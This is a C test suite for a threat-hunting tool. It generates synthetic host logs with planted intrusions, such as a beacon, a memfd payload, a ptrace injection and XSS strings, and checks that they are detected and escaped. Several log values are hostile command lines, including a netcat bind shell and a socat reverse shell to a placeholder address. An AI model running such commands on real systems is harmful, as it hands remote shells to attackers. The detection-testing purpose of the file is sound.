/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * onmitsu hunt (query/hunt.c) on a synthetic four-hour log of a host: ordinary
 * traffic (an NTP daemon every 64 s, a cron job running curl every 5 min, a
 * browser, a package manager's burst, an ssh session) and planted activity
 * (a beacon every 60 s +-20 % from /tmp, a web server starting a shell, a
 * memfd payload connecting out, a program named like a kernel thread, an
 * injection, a destination the browser never contacted before). Every planted
 * case is found and ranks above everything the ordinary traffic scores.
 */
#include <stdlib.h>
#include <string.h>

#include "query/commands.h"
#include "query/history.h"
#include "query/hunt.h"
#include "test.h"
#include "test_query_util.h"
#include "util/strbuf.h"

#define HDR                                                                                        \
	"time,seq,event,pid,ppid,guid,parent_guid,uid,exe,cmdline,proto,src_ip,src_port,dst_ip,"   \
	"dst_port,direction,result,path,community_id,detail,target_pid,target_guid\n"

struct entry {
	uint64_t t_ms;
	uint32_t order;
	char *rest; /* the line after "time,seq," */
};

struct gen {
	struct entry *v;
	uint32_t n, cap;
	uint32_t rnd;
};

static uint32_t rnd(struct gen *g)
{
	g->rnd = g->rnd * 1103515245u + 12345u;
	return (g->rnd >> 8) & 0xffff;
}

static void guid_of(char *buf, int pid)
{
	snprintf(buf, 40, "6f1c%04x-0000-4000-8000-%012x", pid & 0xffff, pid);
}

static void add(struct gen *g, uint64_t t_ms, struct strbuf *rest)
{
	if (g->n == g->cap) {
		g->cap = g->cap ? g->cap * 2 : 256;
		g->v = realloc(g->v, g->cap * sizeof(*g->v));
	}
	g->v[g->n] = (struct entry){t_ms, g->n, strdup(sb_str(rest))};
	g->n++;
	sb_free(rest);
}

/* a process record; t in ms from 2026-11-25T00:00:00Z */
static void rec(struct gen *g, uint64_t t_ms, const char *event, int pid, int ppid, const char *exe,
		const char *cmdline, const char *detail)
{
	char guid[40] = "", pguid[40] = "";
	if (pid > 0)
		guid_of(guid, pid);
	if (ppid > 0)
		guid_of(pguid, ppid);
	struct strbuf sb = STRBUF_INIT;
	sb_addf(&sb, "%s,", event);
	if (pid > 0)
		sb_addf(&sb, "%d,", pid);
	else
		sb_adds(&sb, ",");
	if (ppid > 0)
		sb_addf(&sb, "%d,", ppid);
	else
		sb_adds(&sb, ",");
	sb_addf(&sb, "%s,%s,1000,%s,\"%s\",,,,,,,,,,%s,,\n", guid, pguid, exe ? exe : "",
		cmdline ? cmdline : "", detail ? detail : "");
	add(g, t_ms, &sb);
}

static void net(struct gen *g, uint64_t t_ms, int pid, const char *proto, const char *dst, int port,
		const char *dir, const char *result)
{
	char guid[40];
	guid_of(guid, pid);
	struct strbuf sb = STRBUF_INIT;
	sb_addf(&sb, "NET,%d,,%s,,1000,,,%s,192.0.2.10,%u,%s,%d,%s,%s,,,,,\n", pid, guid, proto,
		40000 + rnd(g) % 20000, dst, port, dir, result);
	add(g, t_ms, &sb);
}

static void inject(struct gen *g, uint64_t t_ms, int pid, int target, const char *method,
		   const char *detail)
{
	char guid[40], tguid[40];
	guid_of(guid, pid);
	guid_of(tguid, target);
	struct strbuf sb = STRBUF_INIT;
	sb_addf(&sb, "INJECT,%d,,%s,,1000,,,,,,,,,%s,,,%s,%d,%s\n", pid, guid, method, detail,
		target, tguid);
	add(g, t_ms, &sb);
}

static int cmp_entry(const void *a, const void *b)
{
	const struct entry *x = a, *y = b;
	if (x->t_ms != y->t_ms)
		return x->t_ms < y->t_ms ? -1 : 1;
	return x->order < y->order ? -1 : 1;
}

static char *gen_text(struct gen *g)
{
	qsort(g->v, g->n, sizeof(*g->v), cmp_entry);
	struct strbuf sb = STRBUF_INIT;
	sb_adds(&sb, HDR);
	for (uint32_t i = 0; i < g->n; i++) {
		uint64_t t = g->v[i].t_ms;
		sb_addf(&sb, "2026-11-25T%02u:%02u:%02u.%03u000Z,%u,%s", (unsigned)(t / 3600000),
			(unsigned)(t / 60000 % 60), (unsigned)(t / 1000 % 60), (unsigned)(t % 1000),
			i + 1, g->v[i].rest);
		free(g->v[i].rest);
	}
	free(g->v);
	char *text = strdup(sb_str(&sb));
	sb_free(&sb);
	return text;
}

#define SEC 1000ull
#define MIN (60 * SEC)
#define HOUR (60 * MIN)

static char *host_log(void)
{
	struct gen g = {.rnd = 7};
	rec(&g, 0, "START", 0, 0, NULL, NULL, "version=0.3.0");
	rec(&g, 1, "EXISTING", 1, 0, "/usr/lib/systemd/systemd", "/sbin/init", NULL);
	rec(&g, 2, "EXISTING", 100, 1, "/usr/sbin/cron", "/usr/sbin/cron -f", NULL);
	rec(&g, 3, "EXISTING", 102, 1, "/usr/sbin/chronyd", "/usr/sbin/chronyd -F 1", NULL);
	rec(&g, 4, "EXISTING", 103, 1, "/usr/sbin/nginx", "nginx: master process", NULL);
	rec(&g, 5, "EXISTING", 105, 1, "/usr/bin/bash", "-bash", NULL);
	rec(&g, 6, "EXISTING", 104, 105, "/usr/lib/firefox/firefox", "firefox", NULL);
	rec(&g, 7, "EXISTING", 106, 105, "/usr/bin/ssh", "ssh alice@198.51.100.22", NULL);
	/* ordinary: NTP every 64 s */
	for (uint64_t t = SEC; t < 4 * HOUR; t += 64 * SEC)
		net(&g, t, 102, "udp", "192.0.2.123", 123, "out", "sent");
	/* ordinary: cron runs curl every 5 minutes, a new process each time */
	for (int k = 0; k < 48; k++) {
		uint64_t t = (uint64_t)k * 5 * MIN + 20 * SEC;
		int pid = 1000 + k;
		rec(&g, t, "FORK", pid, 100, NULL, NULL, NULL);
		rec(&g, t + 2, "EXEC", pid, 100, "/usr/bin/curl",
		    "curl -s https://198.51.100.7/health", NULL);
		net(&g, t + 50, pid, "tcp", "198.51.100.7", 443, "out", "established");
		rec(&g, t + 300, "EXIT", pid, 100, NULL, NULL, NULL);
	}
	/* ordinary: one long ssh session */
	net(&g, 8, 106, "tcp", "198.51.100.22", 22, "out", "established");
	/* ordinary: the browser, 20 sites in its first minutes, then at random */
	char dst[32];
	for (int k = 0; k < 20; k++) {
		snprintf(dst, sizeof(dst), "198.51.100.%d", 100 + k);
		net(&g, 2 * SEC + (uint64_t)k * 3 * SEC, 104, "tcp", dst, 443, "out",
		    "established");
	}
	for (int k = 0; k < 150; k++) {
		snprintf(dst, sizeof(dst), "198.51.100.%d", 100 + (int)(rnd(&g) % 20));
		net(&g, 2 * MIN + (uint64_t)rnd(&g) * 200, 104, "tcp", dst, 443, "out",
		    "established");
	}
	/* ordinary: the package manager's burst, with a refused retry */
	rec(&g, 2 * HOUR, "FORK", 900, 105, NULL, NULL, NULL);
	rec(&g, 2 * HOUR + 1, "EXEC", 900, 105, "/usr/bin/apt-get", "apt-get update", NULL);
	for (int k = 0; k < 6; k++)
		net(&g, 2 * HOUR + 100 + (uint64_t)k * 400, 900, "tcp", "198.51.100.80", 80, "out",
		    k == 2 ? "refused" : "established");
	rec(&g, 2 * HOUR + 5 * SEC, "EXIT", 900, 105, NULL, NULL, NULL);

	/* planted: a beacon every 60 s +-20 % from /tmp, 00:30 to the end */
	rec(&g, 30 * MIN, "FORK", 2000, 105, NULL, NULL, NULL);
	rec(&g, 30 * MIN + 1, "EXEC", 2000, 105, "/tmp/.x/updater", "/tmp/.x/updater", NULL);
	for (uint64_t t = 30 * MIN + SEC; t < 4 * HOUR - MIN;
	     t += 48 * SEC + (uint64_t)(rnd(&g) % 24001))
		net(&g, t, 2000, "tcp", "203.0.113.50", 8443, "out", "established");
	/* planted: the web server starts a shell */
	rec(&g, 90 * MIN, "FORK", 2001, 103, NULL, NULL, NULL);
	rec(&g, 90 * MIN + 1, "EXEC", 2001, 103, "/usr/bin/dash", "sh -c id", NULL);
	rec(&g, 90 * MIN + 5, "EXIT", 2001, 103, NULL, NULL, NULL);
	/* planted: a memfd payload connects out */
	rec(&g, 150 * MIN, "FORK", 2002, 105, NULL, NULL, NULL);
	rec(&g, 150 * MIN + 1, "EXEC", 2002, 105, "/memfd:payload (deleted)", "payload",
	    "deleted=1 memfd=1");
	net(&g, 150 * MIN + 20, 2002, "tcp", "203.0.113.60", 4444, "out", "established");
	rec(&g, 150 * MIN + 40, "EXIT", 2002, 105, NULL, NULL, NULL);
	/* planted: a name like a kernel thread's */
	rec(&g, 160 * MIN, "FORK", 2003, 105, NULL, NULL, NULL);
	rec(&g, 160 * MIN + 1, "EXEC", 2003, 105, "/var/lib/.k/kw", "[kworker/0:2]", NULL);
	/* planted: an injection into the browser */
	rec(&g, 170 * MIN, "FORK", 2004, 105, NULL, NULL, NULL);
	rec(&g, 170 * MIN + 1, "EXEC", 2004, 105, "/home/alice/inj", "./inj", NULL);
	inject(&g, 170 * MIN + 10, 2004, 104, "ptrace_poketext", "count=1");
	/* ordinary: the browser's JIT maps memory writable and executable */
	inject(&g, 20 * MIN, 104, 104, "wx_memory", "count=1");
	inject(&g, 21 * MIN, 104, 104, "wx_memory", "count=57");
	/* planted: the browser contacts a destination it never did before */
	net(&g, 180 * MIN, 104, "tcp", "203.0.113.99", 443, "out", "established");
	rec(&g, 4 * HOUR, "STOP", 0, 0, NULL, NULL, "events=1");
	return gen_text(&g);
}

static const struct hunt_finding *find(const struct hunt *hu, const struct history *h,
				       enum hunt_kind kind, const char *exe)
{
	for (uint32_t i = 0; i < hu->n; i++)
		if (hu->v[i].kind == kind && strcmp(history_str(h, hu->v[i].exe), exe) == 0)
			return &hu->v[i];
	return NULL;
}

static bool ordinary(const char *exe)
{
	static const char *const o[] = {"/usr/sbin/chronyd",	    "/usr/bin/curl",
					"/usr/lib/firefox/firefox", "/usr/bin/ssh",
					"/usr/bin/apt-get",	    NULL};
	for (int i = 0; o[i]; i++)
		if (strcmp(exe, o[i]) == 0)
			return true;
	return false;
}

TEST(hunt_ranks_planted_above_ordinary)
{
	char *dir = tq_tempdir();
	char *text = host_log();
	tq_write_str(dir, "onmitsu.csv", text);
	free(text);
	struct history h;
	struct hunt hu;
	history_init(&h);
	hunt_init(&hu);
	CHECK_EQ_INT(history_load(&h, dir, HUNT_EVENTS, hunt_record, &hu), 0);
	hunt_run(&hu, &h, 0, UINT64_MAX);

	const struct hunt_finding *b = find(&hu, &h, HUNT_BEACON, "/tmp/.x/updater");
	CHECK(b != NULL);
	CHECK_EQ_STR(ip_table_text(&h.ips, b->dst_ip), "203.0.113.50");
	CHECK_EQ_INT(b->dst_port, 8443);
	CHECK(b->beacon >= 0.8);
	CHECK(b->connections > 150);
	CHECK_EQ_INT(b->nrefs_total, b->connections);
	CHECK(find(&hu, &h, HUNT_TMP_NET, "/tmp/.x/updater") != NULL);
	const struct hunt_finding *sh = find(&hu, &h, HUNT_SERVER_SHELL, "/usr/bin/dash");
	CHECK(sh != NULL);
	CHECK_EQ_INT(h.procs[sh->other].pid, 103);
	CHECK_EQ_INT(sh->refs[0].seq >= 1, 1);
	CHECK(find(&hu, &h, HUNT_MEMFD_NET, "/memfd:payload (deleted)") != NULL);
	CHECK(find(&hu, &h, HUNT_KTHREAD_NAME, "/var/lib/.k/kw") != NULL);
	const struct hunt_finding *inj = find(&hu, &h, HUNT_INJECT, "/home/alice/inj");
	CHECK(inj != NULL);
	CHECK_EQ_INT(h.procs[inj->other].pid, 104);
	CHECK(inj->score >= 0.9);
	/* the JIT's W+X memory: one finding for its two records, low */
	const struct hunt_finding *jit = find(&hu, &h, HUNT_INJECT, "/usr/lib/firefox/firefox");
	CHECK(jit != NULL);
	CHECK_EQ_INT(jit->nrefs_total, 2);
	CHECK(jit->score <= 0.3);

	/* the ordinary programs' best score is below every planted finding's */
	double ordinary_max = 0, planted_min = 1;
	for (uint32_t i = 0; i < hu.n; i++) {
		const struct hunt_finding *f = &hu.v[i];
		const char *exe = history_str(&h, f->exe);
		if (ordinary(exe)) {
			if (f->score > ordinary_max)
				ordinary_max = f->score;
		} else if (f->score < planted_min) {
			planted_min = f->score;
		}
	}
	if (!(ordinary_max < planted_min)) {
		for (uint32_t i = 0; i < hu.n; i++)
			fprintf(stderr, "    %.3f %s %s\n", hu.v[i].score,
				hunt_kind_name(hu.v[i].kind), hu.v[i].reason);
		TEST_FAIL_("ordinary %.3f >= planted %.3f", ordinary_max, planted_min);
	}
	/* the regular ordinary jobs are scored as beacons, but low */
	const struct hunt_finding *cron = find(&hu, &h, HUNT_BEACON, "/usr/bin/curl");
	CHECK(cron != NULL);
	CHECK(cron->beacon >= 0.9);
	CHECK(cron->score <= 0.6);
	const struct hunt_finding *ntp = find(&hu, &h, HUNT_BEACON, "/usr/sbin/chronyd");
	CHECK(ntp == NULL || ntp->score <= 0.5);
	/* no first contact without history before the window */
	CHECK(find(&hu, &h, HUNT_FIRST_CONTACT, "/usr/lib/firefox/firefox") == NULL);
	hunt_free(&hu);
	history_free(&h);
	tq_rmdir(dir);
}

TEST(hunt_first_contact_and_window)
{
	char *dir = tq_tempdir();
	char *text = host_log();
	tq_write_str(dir, "onmitsu.csv", text);
	free(text);
	char *out, *err;
	const char *argv[] = {"hunt", "-d", dir, "--since", "2026-11-25T01:00:00Z", "--json", NULL};
	CHECK_EQ_INT(tq_run(cmd_hunt, argv, &out, &err), 0);
	/* the browser's one new destination, and only that one */
	const char *fc = strstr(out, "\"kind\":\"first-contact\"");
	if (!fc || !strstr(fc, "203.0.113.99:443/tcp") ||
	    strstr(fc + 1, "\"kind\":\"first-contact\""))
		TEST_FAIL_("first-contact: %s", out);
	/* the shell's finding names its EXEC record and both processes */
	if (!strstr(out, "\"kind\":\"server-shell\"") ||
	    !strstr(out,
		    "\"related\":{\"pid\":103,\"guid\":\"6f1c0067-0000-4000-8000-000000000067\""))
		TEST_FAIL_("server-shell: %s", out);
	free(out);
	free(err);
	/* a window before the planted activity: none of it */
	const char *early[] = {"hunt", "-d", dir, "--until", "2026-11-25T00:20:00Z", NULL};
	CHECK_EQ_INT(tq_run(cmd_hunt, early, &out, &err), 0);
	if (strstr(out, "updater") || strstr(out, "memfd") ||
	    !strstr(out, "window 2026-11-25T00:00:00"))
		TEST_FAIL_("early window: %s", out);
	free(out);
	free(err);
	const char *bad[] = {"hunt", "-d", dir, "--min-score", "2", NULL};
	CHECK_EQ_INT(tq_run(cmd_hunt, bad, &out, &err), 2);
	CHECK(strstr(err, "--min-score \"2\"") != NULL);
	free(out);
	free(err);
	tq_rmdir(dir);
}

TEST(hunt_zeus_fixture)
{
	/* the paper's dropper: the deleted /tmp program's flows, and its descent
	 * from an exited program of a temporary directory */
	char *out, *err;
	const char *argv[] = {"hunt", "-d", tq_fixture("zeus"), "--json", NULL};
	CHECK_EQ_INT(tq_run(cmd_hunt, argv, &out, &err), 0);
	if (!strstr(out, "\"kind\":\"deleted-network\"") ||
	    !strstr(out, "\"kind\":\"download-origin\"") ||
	    strstr(out,
		   "/usr/lib/firefox/firefox\",\"cmdline\":\"firefox\"},\"related\":null,\"dst\""))
		TEST_FAIL_("%s", out);
	free(out);
	free(err);
}

/* report: a page with the family asked for, every value from the log
 * HTML-escaped (the log holds attacker-chosen text), nothing fetched */
TEST(report_html_escapes_and_is_self_contained)
{
	char *dir = tq_tempdir();
	tq_write_str(dir, "onmitsu.csv",
		     HDR "2026-11-25T00:00:00.000000Z,1,START,,,,,,,,,,,,,,,,,version=0.3.0,,\n"
			 "2026-11-25T00:00:01.000000Z,2,EXISTING,10,1,6f1c000a-0000-4000-8000-"
			 "00000000000a,,0,/usr/sbin/nginx,nginx,,,,,,,,,,,,\n"
			 "2026-11-25T00:00:02.000000Z,3,FORK,11,10,6f1c000b-0000-4000-8000-"
			 "00000000000b,6f1c000a-0000-4000-8000-00000000000a,0,,,,,,,,,,,,,,\n"
			 "2026-11-25T00:00:02.100000Z,4,EXEC,11,10,6f1c000b-0000-4000-8000-"
			 "00000000000b,6f1c000a-0000-4000-8000-00000000000a,0,\"/tmp/a\"\"b'<x>\","
			 "\"sh -c \"\"<script>alert(1)</script>&\"\"\",,,,,,,,,,,,\n"
			 "2026-11-25T00:00:03.000000Z,5,NET,11,,6f1c000b-0000-4000-8000-"
			 "00000000000b,,0,,,tcp,192.0.2.10,40000,203.0.113.5,443,out,"
			 "established,,,,,\n"
			 "2026-11-25T00:00:04.000000Z,6,EXISTING,12,1,6f1c000c-0000-4000-8000-"
			 "00000000000c,,0,/usr/bin/other,other,,,,,,,,,,,,\n"
			 "2026-11-25T00:00:05.000000Z,7,MODLOAD,11,,6f1c000b-0000-4000-8000-"
			 "00000000000b,,0,,,,,,,,,,/tmp/</script><!--x.so,,,,\n");
	char *out, *err;
	const char *argv[] = {"report", "-d", dir, "--guid", "6f1c000b-0000-4000-8000-00000000000b",
			      "--html", "-",  NULL};
	CHECK_EQ_INT(tq_run(cmd_report, argv, &out, &err), 0);
	if (strstr(out, "<script>alert") || strstr(out, "<x>") || strstr(out, "a\"b"))
		TEST_FAIL_("unescaped: %s", out);
	if (!strstr(out, "&lt;script&gt;alert(1)&lt;/script&gt;&amp;") ||
	    !strstr(out, "/tmp/a&quot;b&#39;&lt;x&gt;") || !strstr(out, "203.0.113.5:443") ||
	    !strstr(out, "id=\"p-6f1c000a-0000-4000-8000-00000000000a\"") ||
	    strstr(out, "/usr/bin/other"))
		TEST_FAIL_("page: %s", out);
	/* the hunt's finding about the shell-less /tmp program is on the page */
	CHECK(strstr(out, "tmp-network") != NULL);
	/* the processes' sections are in the data block for the script: nothing
	 * in it can end the script element, open a comment or be markup */
	const char *data = strstr(out, "<script type=application/json id=onm-data>");
	CHECK(data != NULL);
	if (data) {
		data += strlen("<script type=application/json id=onm-data>");
		const char *end = strstr(data, "</script>");
		CHECK(end != NULL);
		if (end) {
			CHECK(strcspn(data, "<>&'") == (size_t)(end - data));
			CHECK_EQ_STR(end, "</script>\n</body></html>\n");
		}
		CHECK(strstr(data, "\"/tmp/\\u003c/script\\u003e\\u003c!--x.so\"") != NULL);
		CHECK(strstr(data, "\"sh -c \\\"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"
				   "\\u0026\\\"\"") != NULL);
		CHECK(strstr(data, "\"203.0.113.5:443\"") != NULL);
	}
	/* nothing outside the page */
	CHECK(strstr(out, "src=") == NULL);
	CHECK(strstr(out, "href=\"http") == NULL);
	CHECK(strstr(out, "default-src 'none'") != NULL);
	free(out);
	free(err);
	const char *none[] = {"report", "-d", dir, "--html", "-", NULL};
	CHECK_EQ_INT(tq_run(cmd_report, none, &out, &err), 2);
	free(out);
	free(err);
	const char *nohtml[] = {"report", "-d", dir, "--hunt", NULL};
	CHECK_EQ_INT(tq_run(cmd_report, nohtml, &out, &err), 2);
	CHECK(strstr(err, "--html FILE") != NULL);
	free(out);
	free(err);
	tq_rmdir(dir);
}

static void net_tuple(struct gen *g, uint64_t t_ms, int pid, const char *src, int sport,
		      const char *dst, int dport, const char *dir)
{
	char guid[40];
	guid_of(guid, pid);
	struct strbuf sb = STRBUF_INIT;
	sb_addf(&sb, "NET,%d,,%s,,0,,,tcp,%s,%d,%s,%d,%s,established,,,,,\n", pid, guid, src, sport,
		dst, dport, dir);
	add(g, t_ms, &sb);
}

static const struct hunt_finding *find_pid(const struct hunt *hu, const struct history *h,
					   enum hunt_kind kind, int pid)
{
	for (uint32_t i = 0; i < hu->n; i++)
		if (hu->v[i].kind == kind && h->procs[hu->v[i].proc].pid == pid)
			return &hu->v[i];
	return NULL;
}

#define RS_TCP(peer, local)                                                                        \
	"stdin=tcp stdout=tcp stderr=tcp stdio_proto=tcp stdio_peer=" peer " stdio_local=" local

TEST(hunt_reverse_shells)
{
	struct gen g = {.rnd = 3};
	rec(&g, 0, "START", 0, 0, NULL, NULL, "version=0.3.0");
	rec(&g, 1, "EXISTING", 1, 0, "/usr/lib/systemd/systemd", "/sbin/init", NULL);
	rec(&g, 2, "EXISTING", 105, 1, "/usr/bin/bash", "-bash", NULL);
	rec(&g, 3, "EXISTING", 110, 1, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D", NULL);
	/* planted: python connects out and becomes a shell; its sh -c bash -i */
	rec(&g, 10 * SEC, "FORK", 3000, 105, NULL, NULL, NULL);
	rec(&g, 10 * SEC + 1, "EXEC", 3000, 105, "/usr/bin/python3.11", "python3 -c x", NULL);
	net_tuple(&g, 10 * SEC + 5, 3000, "192.0.2.10", 40001, "198.51.100.7", 4444, "out");
	rec(&g, 10 * SEC + 6, "EXEC", 3000, 105, "/usr/bin/dash", "sh",
	    RS_TCP("198.51.100.7:4444", "192.0.2.10:40001"));
	rec(&g, 10 * SEC + 9, "FORK", 3001, 3000, NULL, NULL, NULL);
	rec(&g, 10 * SEC + 10, "EXEC", 3001, 3000, "/usr/bin/bash", "bash -i",
	    RS_TCP("198.51.100.7:4444", "192.0.2.10:40001"));
	/* not a shell: id with the same socket */
	rec(&g, 10 * SEC + 20, "FORK", 3002, 3001, NULL, NULL, NULL);
	rec(&g, 10 * SEC + 21, "EXEC", 3002, 3001, "/usr/bin/id", "id",
	    RS_TCP("198.51.100.7:4444", "192.0.2.10:40001"));
	/* ordinary: an inetd-style service systemd accepted for */
	net_tuple(&g, 20 * SEC, 1, "203.0.113.5", 5555, "192.0.2.10", 2323, "in");
	rec(&g, 20 * SEC + 1, "FORK", 3100, 1, NULL, NULL, NULL);
	rec(&g, 20 * SEC + 2, "EXEC", 3100, 1, "/usr/bin/bash", "bash /usr/lib/svc/echo.sh",
	    RS_TCP("203.0.113.5:5555", "192.0.2.10:2323"));
	/* planted: a bind shell, nc -l -e /bin/sh */
	rec(&g, 30 * SEC, "FORK", 3200, 105, NULL, NULL, NULL);
	rec(&g, 30 * SEC + 1, "EXEC", 3200, 105, "/usr/bin/nc.traditional", "nc -l -p 4444 -e sh",
	    NULL);
	net_tuple(&g, 31 * SEC, 3200, "203.0.113.6", 6000, "192.0.2.10", 4444, "in");
	rec(&g, 31 * SEC + 1, "EXEC", 3200, 105, "/usr/bin/dash", "sh",
	    RS_TCP("203.0.113.6:6000", "192.0.2.10:4444"));
	/* planted: socat relays a connection out to bash over a Unix socket pair */
	rec(&g, 40 * SEC, "FORK", 3300, 105, NULL, NULL, NULL);
	rec(&g, 40 * SEC + 1, "EXEC", 3300, 105, "/usr/bin/socat",
	    "socat tcp:[2001:db8::9]:443 exec:bash", NULL);
	net_tuple(&g, 40 * SEC + 3, 3300, "2001:db8::10", 50000, "2001:db8::9", 443, "out");
	rec(&g, 40 * SEC + 4, "FORK", 3301, 3300, NULL, NULL, NULL);
	rec(&g, 40 * SEC + 5, "EXEC", 3301, 3300, "/usr/bin/bash", "bash",
	    "stdin=unix stdout=unix stderr=unix");
	/* ordinary: a Unix socket pair from sshd; a damaged peer */
	rec(&g, 50 * SEC, "FORK", 3400, 110, NULL, NULL, NULL);
	rec(&g, 50 * SEC + 1, "EXEC", 3400, 110, "/usr/bin/bash", "bash -c uptime",
	    "stdin=unix stdout=unix stderr=unix");
	rec(&g, 60 * SEC, "FORK", 3500, 105, NULL, NULL, NULL);
	rec(&g, 60 * SEC + 1, "EXEC", 3500, 105, "/usr/bin/perl", "perl",
	    "stdin=tcp stdout=pipe stderr=pipe stdio_proto=tcp stdio_peer=[::1:99999 "
	    "stdio_local=x:");
	rec(&g, 2 * MIN, "STOP", 0, 0, NULL, NULL, "events=1");
	char *text = gen_text(&g);
	char *dir = tq_tempdir();
	tq_write_str(dir, "onmitsu.csv", text);
	free(text);
	struct history h;
	struct hunt hu;
	history_init(&h);
	hunt_init(&hu);
	CHECK_EQ_INT(history_load(&h, dir, HUNT_EVENTS, hunt_record, &hu), 0);
	hunt_run(&hu, &h, 0, UINT64_MAX);
	const struct hunt_finding *f = find_pid(&hu, &h, HUNT_REVERSE_SHELL, 3000);
	CHECK(f != NULL);
	if (f) {
		CHECK(f->score >= 0.95);
		CHECK_EQ_STR(ip_table_text(&h.ips, f->dst_ip), "198.51.100.7");
		CHECK_EQ_INT(f->dst_port, 4444);
		CHECK(strstr(f->reason, "198.51.100.7:4444/tcp") != NULL);
		CHECK(strstr(f->reason, "made from here") != NULL);
		/* its EXEC, the flow's NET, and the child shell's EXEC (seqs 8, 7, 10) */
		CHECK_EQ_INT(f->nrefs, 3);
		CHECK_EQ_INT(f->refs[0].seq, 8);
		CHECK_EQ_INT(f->refs[1].seq, 7);
		CHECK_EQ_INT(f->refs[2].seq, 10);
		CHECK_EQ_INT(f->other, PROC_NONE);
	}
	CHECK(find_pid(&hu, &h, HUNT_REVERSE_SHELL, 3001) == NULL);
	CHECK(find_pid(&hu, &h, HUNT_REVERSE_SHELL, 3002) == NULL);
	f = find_pid(&hu, &h, HUNT_REVERSE_SHELL, 3100);
	CHECK(f != NULL && f->score <= 0.4 && strstr(f->reason, "inetd style"));
	f = find_pid(&hu, &h, HUNT_REVERSE_SHELL, 3200);
	CHECK(f != NULL && f->score >= 0.7 && f->score < 0.9 && strstr(f->reason, "bind shell"));
	f = find_pid(&hu, &h, HUNT_REVERSE_SHELL, 3301);
	CHECK(f != NULL);
	if (f) {
		CHECK(f->score >= 0.95);
		CHECK_EQ_INT(h.procs[f->other].pid, 3300);
		CHECK_EQ_STR(ip_table_text(&h.ips, f->dst_ip), "2001:db8::9");
		CHECK(strstr(f->reason,
			     "a relay (flow: NET seq 22, out, to [2001:db8::9]:443/tcp") != NULL);
	}
	CHECK(find_pid(&hu, &h, HUNT_REVERSE_SHELL, 3400) == NULL);
	/* a damaged peer: found, with no address */
	f = find_pid(&hu, &h, HUNT_REVERSE_SHELL, 3500);
	CHECK(f != NULL && f->dst_ip == 0 && f->score <= 0.7);
	/* below 0.7: only the inetd-style service */
	for (uint32_t i = 0; i < hu.n; i++)
		if (hu.v[i].kind == HUNT_REVERSE_SHELL && hu.v[i].score < 0.7)
			CHECK_EQ_INT(h.procs[hu.v[i].proc].pid, 3100);
	hunt_free(&hu);
	history_free(&h);
	tq_rmdir(dir);
}

/* report: the evidence kept of a process, its values HTML-escaped */
TEST(report_shows_evidence_kept)
{
	char *dir = tq_tempdir();
	tq_write_str(dir, "onmitsu.csv",
		     "time,seq,event,pid,ppid,guid,parent_guid,uid,exe,cmdline,proto,src_ip,"
		     "src_port,dst_ip,dst_port,direction,result,path,community_id,detail,sha256\n"
		     "2026-11-25T00:00:00.000000Z,1,START,,,,,,,,,,,,,,,,,version=0.3.0,\n"
		     "2026-11-25T00:00:01.000000Z,2,EXEC,11,1,6f1c000b-0000-4000-8000-"
		     "00000000000b,,0,/tmp/x,x,,,,,,,,,,,\n"
		     "2026-11-25T00:00:02.000000Z,3,NET,11,,6f1c000b-0000-4000-8000-"
		     "00000000000b,,0,,,tcp,192.0.2.10,40000,203.0.113.5,443,out,"
		     "established,,,,\n"
		     "2026-11-25T00:00:02.010000Z,4,EVIDENCE,11,,6f1c000b-0000-4000-8000-"
		     "00000000000b,,0,,,,,,,,,partial,evidence/6f1c000b-0000-4000-8000-"
		     "00000000000b,,rule=suspicious-exe-net trigger=net_out files=8 bytes=4321 "
		     "not_kept=exe:too_big<b>,"
		     "0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0\n");
	char *out, *err;
	const char *argv[] = {"report", "-d", dir, "--guid", "6f1c000b-0000-4000-8000-00000000000b",
			      "--html", "-",  NULL};
	CHECK_EQ_INT(tq_run(cmd_report, argv, &out, &err), 0);
	if (!strstr(out, "evidence kept") ||
	    !strstr(out, "evidence/6f1c000b-0000-4000-8000-00000000000b") ||
	    !strstr(out, "0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0") ||
	    !strstr(out, "suspicious-exe-net") || !strstr(out, "8 (4321 bytes)") ||
	    !strstr(out, "exe:too_big&lt;b&gt;") || strstr(out, "too_big<b>"))
		TEST_FAIL_("page: %s", out);
	free(out);
	free(err);
	tq_rmdir(dir);
}
